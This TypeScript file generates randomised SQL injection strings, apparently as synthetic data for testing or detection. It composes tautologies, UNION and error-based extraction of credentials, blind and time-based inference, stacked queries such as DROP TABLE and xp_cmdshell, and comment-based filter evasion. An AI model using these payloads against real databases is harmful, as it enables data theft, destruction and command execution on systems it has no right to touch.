// SQL injection text, composed from the techniques rather than taken from a list: a value, a
// context breaker (a quote or bracket that closes the application's literal), one technique
// (tautology, UNION extraction, error-based extraction, boolean or time-based blind inference,
// stacked queries, column counting), and a comment that cuts off the rest of the query.
import type { Rng } from '../../rng.js';

export interface SqlPayload {
  text: string;
  /** Time-based: the database sleeps, so the response takes seconds. */
  sleeps: number;
}

const BREAKERS = ["'", "'", '"', '', '', "')", ')', '"))'];
const COMMENTS = ['-- -', '--+', '#', '/*', '', '', '-- '];
const FUNCTIONS = ['version()', '@@version', 'user()', 'database()', 'current_user', 'system_user()'];
const TABLES = ['users', 'customers', 'admin', 'orders', 'accounts'];

function inner(rng: Rng): string {
  const r = rng.float();
  if (r < 0.6) return rng.pick(FUNCTIONS);
  if (r < 0.8) return `table_name FROM information_schema.tables LIMIT ${rng.int(20)},1`;
  return `concat(username,0x3a,password) FROM ${rng.pick(TABLES)} LIMIT ${rng.int(5)},1`;
}

function columns(rng: Rng, count: number): string {
  const reveal = rng.int(count);
  const items: string[] = [];
  for (let i = 0; i < count; i++) {
    if (i === reveal && rng.chance(0.6)) items.push(rng.pick(FUNCTIONS));
    else items.push(rng.chance(0.5) ? 'NULL' : String(i + 1));
  }
  return items.join(',');
}

export function sqlPayload(value: string, rng: Rng): SqlPayload {
  const q = rng.pick(BREAKERS);
  const c = rng.pick(COMMENTS);
  const n = 1000 + rng.int(9000);
  const seconds = rng.pick([3, 5, 5, 7, 10]);
  const r = rng.float();
  let text: string;
  let sleeps = 0;
  if (r < 0.16) {
    text = rng.chance(0.5) ? `${value}${q} OR ${n}=${n}${c}` : `${value}${q} OR '${n}'='${n}`;
  } else if (r < 0.32) {
    const all = rng.chance(0.5) ? ' ALL' : '';
    text = `${rng.chance(0.3) ? '-' : ''}${value}${q} UNION${all} SELECT ${columns(rng, 1 + rng.int(9))}${c}`;
  } else if (r < 0.44) {
    text = rng.pick([
      `${value}${q} AND EXTRACTVALUE(${n},CONCAT(0x5c,(SELECT ${inner(rng)})))${c}`,
      `${value}${q} AND UPDATEXML(${n},CONCAT(0x7e,(SELECT ${inner(rng)}),0x7e),${n})${c}`,
      `${value}${q} AND ${n}=CONVERT(INT,(SELECT @@version))${c}`,
      `${value}${q} AND ${n}=CAST((SELECT ${rng.pick(FUNCTIONS)}) AS NUMERIC)${c}`,
    ]);
  } else if (r < 0.62) {
    const i = 1 + rng.int(12);
    text = rng.pick([
      `${value}${q} AND ${n}=${n}${c}`,
      `${value}${q} AND ${n}=${n + 1 + rng.int(9)}${c}`,
      `${value}${q} AND ASCII(SUBSTRING((SELECT ${inner(rng)}),${i},1))>${32 + rng.int(90)}${c}`,
      `${value}${q} AND SUBSTR((SELECT ${rng.pick(FUNCTIONS)}),${i},1)='${String.fromCharCode(97 + rng.int(26))}`,
      `${value}) AND ${n}=${n} AND (${n + 7}=${n + 7}`,
    ]);
  } else if (r < 0.8) {
    sleeps = seconds;
    text = rng.pick([
      `${value}${q} AND SLEEP(${seconds})${c}`,
      `${value}${q} AND (SELECT ${n} FROM (SELECT(SLEEP(${seconds})))x${n % 97})${c}`,
      `${value}${q}; WAITFOR DELAY '0:0:${seconds}'${c}`,
      `${value}${q} AND ${n}=(SELECT ${n} FROM PG_SLEEP(${seconds}))${c}`,
      `${value}${q} OR IF(${n}=${n},SLEEP(${seconds}),0)${c}`,
      `${value}${q}||(SELECT pg_sleep(${seconds}))${c}`,
    ]);
  } else if (r < 0.88) {
    text = rng.pick([
      `${value}${q}; DROP TABLE ${rng.pick(TABLES)}${c}`,
      `${value}${q}; EXEC xp_cmdshell('whoami')${c}`,
      `${value}${q}; SELECT ${rng.pick(FUNCTIONS)}${c}`,
    ]);
  } else {
    text = `${value}${q} ORDER BY ${1 + rng.int(12)}${c}`;
  }
  // Inline comments instead of spaces: an old trick against filters that look for " UNION ".
  if (rng.chance(0.12)) text = text.replaceAll(' ', '/**/');
  return { text, sleeps };
}
